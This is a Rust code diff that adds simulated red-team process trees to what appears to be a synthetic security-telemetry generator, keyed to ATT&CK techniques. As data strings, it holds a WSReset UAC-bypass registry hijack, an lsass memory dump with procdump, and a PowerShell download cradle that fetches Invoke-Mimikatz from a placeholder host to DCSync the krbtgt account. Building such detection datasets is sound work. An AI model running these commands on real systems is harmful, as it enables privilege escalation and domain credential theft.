@@ -586,6 +586,199 @@ pub(crate) const RECIPES: &[Recipe] = &[
         ],
         &[],
     ),
+    // The beacon's spawn-to process (MSBuild.exe, injected into) and a backup of the
+    // operator's Credential Manager (T1555.004).
+    red(
+        Place::RedTeam,
+        P::Explorer,
+        Who::User,
+        246,
+        &[
+            st(0, Img::RtImplant, "\"C:\\Users\\Public\\rt-implant.exe\" "),
+            st(
+                1,
+                Img::MsBuild,
+                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
+            ),
+            st(
+                0,
+                Img::Rundll32,
+                "\"C:\\Windows\\system32\\rundll32.exe\" keymgr.dll,KRShowKeyMgr",
+            ),
+        ],
+        &[],
+    ),
+    // MSBuild inline tasks started through WMI on the target server (T1127.001).
+    red(
+        Place::RedTarget,
+        P::SvcDcom,
+        Who::Admin,
+        84,
+        &[
+            st(
+                0,
+                Img::WmiPrvSE,
+                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
+            ),
+            st(
+                1,
+                Img::MsBuild,
+                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe\" C:\\ProgramData\\AtomicRedTeam\\T1127.001.csproj",
+            ),
+        ],
+        &[file(
+            1,
+            "FileCreated",
+            "C:\\ProgramData\\AtomicRedTeam\\T1127.001.csproj",
+            2_914,
+        )],
+    ),
+    // UAC bypasses (T1548.002) with the operator's admin account: WSReset's registry
+    // hijack from PowerShell, and the CMSTPLUA elevated COM object.
+    red(
+        Place::RedTeam,
+        P::Explorer,
+        Who::Admin,
+        260,
+        &[
+            st(
+                0,
+                Img::PowerShell,
+                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"New-Item HKCU:\\Software\\Classes\\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\\Shell\\open\\command -Force; New-ItemProperty -Path HKCU:\\Software\\Classes\\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\\Shell\\open\\command -Name DelegateExecute -Value '' -Force; Set-ItemProperty -Path HKCU:\\Software\\Classes\\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\\Shell\\open\\command -Name '(default)' -Value 'C:\\Windows\\System32\\cmd.exe /c start cmd.exe' -Force; Start-Process C:\\Windows\\System32\\wsreset.exe\"",
+            ),
+            st(1, Img::Wsreset, "\"C:\\Windows\\System32\\WSReset.exe\""),
+            st(
+                2,
+                Img::Cmd,
+                "C:\\Windows\\System32\\cmd.exe /c start cmd.exe",
+            ),
+            st(3, Img::Cmd, "cmd.exe"),
+        ],
+        &[reg(
+            1,
+            "{hkcu}\\Software\\Classes\\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\\Shell\\open\\command",
+            "(Default)",
+            "String",
+            "C:\\Windows\\System32\\cmd.exe /c start cmd.exe",
+        )],
+    ),
+    red(
+        Place::RedTeam,
+        P::SvcDcom,
+        Who::Admin,
+        265,
+        &[
+            st(
+                0,
+                Img::Dllhost,
+                "C:\\Windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
+            ),
+            st(
+                1,
+                Img::Cmd,
+                "\"C:\\Windows\\system32\\cmd.exe\" /c whoami /priv > C:\\Users\\Public\\T1548.002.txt",
+            ),
+        ],
+        &[],
+    ),
+    // A console file running PowerShell (T1218.014).
+    red(
+        Place::RedTeam,
+        P::Explorer,
+        Who::User,
+        270,
+        &[
+            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
+            st(
+                1,
+                Img::Mmc,
+                "mmc.exe  C:\\AtomicRedTeam\\atomics\\T1218.014\\src\\T1218.014.msc",
+            ),
+            st(
+                2,
+                Img::PowerShell,
+                "powershell.exe -nop -c \"Get-Process | Out-File C:\\Users\\Public\\T1218.014.txt\"",
+            ),
+        ],
+        &[],
+    ),
+    // The beacon's discovery burst, the way Qakbot does it (one shell, many commands).
+    red(
+        Place::RedTeam,
+        P::Explorer,
+        Who::User,
+        275,
+        &[
+            st(0, Img::RtImplant, "\"C:\\Users\\Public\\rt-implant.exe\" "),
+            st(1, Img::Cmd, "cmd.exe"),
+            st(2, Img::Whoami, "whoami /all"),
+            st(2, Img::Cmd, "cmd /c set"),
+            st(2, Img::Arp, "arp -a"),
+            st(2, Img::Ipconfig, "ipconfig /all"),
+            st(2, Img::Net, "net view /all"),
+            st(2, Img::Net, "net share"),
+            st(2, Img::Route, "route print"),
+            st(2, Img::Netstat, "netstat -nao"),
+            st(2, Img::Net, "net localgroup"),
+            st(
+                2,
+                Img::Nslookup,
+                "nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.contoso.com",
+            ),
+        ],
+        &[],
+    ),
+    // ProcDump's 32-bit launcher starts its 64-bit build with the same arguments; the
+    // beacon's spawn-to notepad.exe talks to the redirector.
+    red(
+        Place::RedTeam,
+        P::Explorer,
+        Who::Admin,
+        285,
+        &[
+            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
+            st(
+                1,
+                Img::Procdump32,
+                "procdump.exe  -accepteula -ma lsass.exe C:\\Users\\Public\\lsass_2.dmp",
+            ),
+            st(
+                2,
+                Img::Procdump,
+                "\"C:\\Tools\\SysinternalsSuite\\procdump64.exe\" -accepteula -ma lsass.exe C:\\Users\\Public\\lsass_2.dmp",
+            ),
+        ],
+        &[file(
+            3,
+            "FileCreated",
+            "C:\\Users\\Public\\lsass_2.dmp",
+            52_428_800,
+        )],
+    ),
+    red(
+        Place::RedTeam,
+        P::Explorer,
+        Who::User,
+        290,
+        &[
+            st(0, Img::RtImplant, "\"C:\\Users\\Public\\rt-implant.exe\" "),
+            st(1, Img::Notepad, "C:\\Windows\\system32\\notepad.exe"),
+        ],
+        &[],
+    ),
+    // DCSync of the krbtgt account with the operator's admin account (T1003.006).
+    red(
+        Place::RedTeam,
+        P::Explorer,
+        Who::Admin,
+        280,
+        &[st(
+            0,
+            Img::PowerShell,
+            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{rt}/payloads/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command '\\\"lsadump::dcsync /domain:contoso.com /user:krbtgt\\\"'\"",
+        )],
+        &[],
+    ),
     // Script-host tests (T1059.005 / T1059.007).
     red(
         Place::RedTeam,
@@ -901,7 +1094,7 @@ pub(crate) fn has_image(w: &World, d: &Device, img: Img) -> Option<bool> {
     let it = dept == crate::catalog::DEPT_IT;
     Some(match img {
         Img::GoToMeeting | Img::ExpressScribe => ws,
-        Img::TightVnc => ws && it,
+        Img::TightVnc | Img::Procdump32 => ws && it,
         Img::DevTunnel | Img::FieldSync => ws && dept == 4,
         Img::Defendpoint => d.is_server(),
         Img::AdapAgent => d.role == Role::Dc,
